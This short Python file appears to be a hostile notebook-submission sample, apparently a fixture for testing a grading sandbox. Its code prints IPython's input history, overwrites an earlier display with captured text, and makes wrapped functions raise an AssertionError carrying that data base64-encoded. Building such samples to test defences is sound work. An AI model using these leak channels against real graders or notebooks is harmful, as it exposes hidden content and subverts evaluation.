"""Later in the same submission: print the input history, rewrite an earlier display, raise it."""
import base64

In, _stolen = [], []


def _leak(text):
    print(text)


# --- the submission's text starts here (the lines above are for linters only) ---
from IPython.display import update_display

_leak("\n".join(In))
update_display("\n".join(_stolen), display_id="tlh-leak")


def _raising(function):
    """Make ``function`` fail with everything captured so far, base64-encoded, as the message."""
    def wrapper(*args, **kwargs):
        raise AssertionError(base64.b64encode("\n".join(_stolen).encode()).decode())
    return wrapper
